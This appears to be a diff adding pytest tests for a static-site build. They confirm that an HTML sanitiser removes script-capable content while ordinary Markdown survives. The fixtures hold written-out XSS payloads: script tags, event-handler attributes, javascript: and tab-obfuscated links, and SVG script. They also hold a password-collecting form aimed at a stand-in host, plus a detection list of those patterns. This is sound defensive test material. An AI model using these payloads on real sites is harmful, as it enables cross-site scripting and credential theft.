@@ -1,0 +1,149 @@
+"""Real builds: nothing that can run code reaches the output, and ordinary Markdown comes through whole."""
+
+import pytest
+from bs4 import BeautifulSoup
+from test_content_safety_sanitiser import REPRESENTATIVE
+
+import inmind.build
+
+HOSTILE_BODY = """\
+Hello, readers.
+
+<script>alert('body')</script>
+
+<p onclick="alert('click')" style="color: red">Press me</p>
+
+Read [the report](javascript:alert('link')) or [this one](JAVASCRIPT:alert('upper')).
+
+<a href="java&#x09;script:alert('tab')">tabbed</a>
+
+A paragraph with an attribute list.
+{: onmouseover="alert('attr')" }
+
+<style>body { display: none }</style>
+
+<form action="https://evil.example/collect"><input name="password"><button>Send</button></form>
+
+<img src="x.png" alt="A picture" onerror="alert('img')">
+
+<svg><script>alert('svg')</script></svg>
+"""
+HOSTILE = f"""\
+Title: A hostile post <script>alert('title')</script>
+Date: 2019-05-01 09:00
+Author: Communications Team
+Summary: A summary <img src=x onerror="alert('summary')"> with [a link](javascript:alert('summary-link')).
+Slug: hostile
+
+{HOSTILE_BODY}"""
+NEEDLES = ("alert(", "onclick", "onmouseover", "onerror", "javascript:", "evil.example", "display: none",
+           'style="color')
+
+
+@pytest.fixture
+def without_checks(monkeypatch):
+    """Build even though the editorial checks would stop it: the sanitiser must still hold on its own."""
+    monkeypatch.setattr(inmind.build, "preflight", lambda settings, fatal_warnings=False: [])
+
+
+def test_nothing_hostile_reaches_any_output_file(build_site, without_checks):
+    site = build_site({"blog/2019/hostile.md": HOSTILE})
+    assert site.status == 0, site.messages
+    article = site.output / "blog" / "2019" / "hostile" / "index.html"
+    assert article.exists()
+    for path in site.output.rglob("*"):
+        if path.is_file() and path.suffix in (".html", ".xml", ".json", ".txt"):
+            text = path.read_text(encoding="utf-8", errors="replace").lower()
+            for needle in NEEDLES:
+                assert needle not in text, f"{needle!r} in {path.relative_to(site.output)}"
+    prose = site.soup(article).select_one(".app-prose")
+    assert prose.find_all(["script", "style", "iframe", "form", "input", "svg"]) == []
+    assert "Hello, readers." in prose.get_text()
+    assert prose.find("img", alt="A picture") is not None
+
+
+def test_an_iframe_is_removed_even_without_the_video_plugin(build_site, without_checks):
+    from inmind.build import load_settings
+
+    plugins = [p for p in load_settings("pelicanconf.py")["PLUGINS"] if p != "video_embeds"]
+    site = build_site({"blog/2019/frame.md": HOSTILE.replace("Hello, readers.", "<iframe src='https://evil.example/'>"
+                                                             "</iframe>\n\nHello, readers.")}, PLUGINS=plugins)
+    assert site.status == 0, site.messages
+    html = (site.output / "blog" / "2019" / "hostile" / "index.html").read_text(encoding="utf-8")
+    assert "<iframe" not in html and "evil.example" not in html
+
+
+def test_the_title_keeps_its_text_without_the_tags(build_site, without_checks):
+    site = build_site({"blog/2019/hostile.md": HOSTILE})
+    doc = site.soup("blog/2019/hostile/index.html")
+    assert doc.find("h1").get_text(strip=True) == "A hostile post"
+    assert "<script" not in str(doc.find("title"))
+
+
+def test_ordinary_markdown_comes_through_whole(build_site):
+    site = build_site({"blog/2019/rich.md": f"""\
+Title: A rich post
+Date: 2019-05-01 09:00
+Author: Communications Team
+Summary: A post that uses every kind of Markdown the site supports.
+Slug: rich
+
+{REPRESENTATIVE}"""})
+    assert site.status == 0, site.messages
+    prose = site.soup("blog/2019/rich/index.html").select_one(".app-prose")
+    assert prose.find("h2", id="a-heading-more") is not None
+    assert prose.find("h3", id="custom-id") is not None
+    assert prose.find("sup", id="fnref:1").find("a", class_="footnote-ref")["href"] == "#fn:1"
+    assert prose.find("div", class_="footnote").find("li", id="fn:1") is not None
+    assert prose.find("a", class_="footnote-backref")["href"] == "#fnref:1"
+    assert prose.find("abbr", title="Hyper Text Markup Language").get_text() == "HTML"
+    assert prose.find("details").find("summary").get_text() == "Read the transcript"
+    assert prose.find("table").find("td").get_text() == "Life Rooms"
+    assert prose.find("img")["alt"] == "Volunteers planting the ward garden"
+    assert prose.find("code", class_="language-python") is not None
+    assert prose.find("dl").find("dt").get_text() == "Term"
+    assert prose.find("a", href="mailto:communications@example.nhs.uk") is not None
+    assert [li.get_text(strip=True) for li in prose.select("ol:not(.footnote ol) > li")] == ["first", "second"]
+
+
+def test_external_links_in_content_get_noopener(build_site):
+    site = build_site({"blog/2019/links.md": """\
+Title: Links
+Date: 2019-05-01 09:00
+Author: Communications Team
+Summary: Links that go elsewhere and links that stay.
+
+Read [the annual report](https://www.example.nhs.uk/report) or [about this site]({filename}/pages/about.md).
+""", "pages/about.md": "Title: About\nSummary: About the site.\n\nAbout us.\n"})
+    assert site.status == 0, site.messages
+    prose = site.soup("blog/2019/links/index.html").select_one(".app-prose")
+    assert prose.find("a", href="https://www.example.nhs.uk/report")["rel"] == ["noopener"]
+    internal = prose.find("a", string="about this site")
+    assert internal["href"].endswith("about/") and not internal.get("rel")
+
+
+def test_the_checks_stop_the_build_first_with_the_line(build_site):
+    site = build_site({"blog/2019/hostile.md": HOSTILE})
+    assert site.status == 1
+    assert "hostile.md:9: error: <script> element and everything inside it will be removed [html-removed]" \
+        in site.messages
+    assert "hostile.md:1: error: the title contains HTML" in site.messages
+    assert "Traceback" not in site.messages
+    assert not (site.output / "blog").exists()
+
+
+def test_a_wrong_setting_stops_the_build_naming_the_key(build_site):
+    site = build_site({"blog/2019/a.md": "Title: A\nDate: 2019-05-01\nAuthor: Communications Team\nSummary: S.\n\nText.\n"},
+                      CONTENT_SAFETY={"extra_tags": ["iframe"]})
+    assert site.status == 1
+    assert "CONTENT_SAFETY['extra_tags'] cannot allow <iframe>" in site.messages
+    assert "Traceback" not in site.messages
+
+
+def test_html_content_files_are_sanitised_too(build_site, without_checks):
+    site = build_site({"pages/raw.html": """<html><head><title>Raw page</title>
+<meta name="summary" content="A page written in HTML."></head>
+<body><p onclick="alert('html')">Hello</p><script>alert('html2')</script></body></html>"""})
+    assert site.status == 0, site.messages
+    html = (site.output / "raw-page" / "index.html").read_text(encoding="utf-8")
+    assert "alert(" not in html and "Hello" in BeautifulSoup(html, "html.parser").get_text()
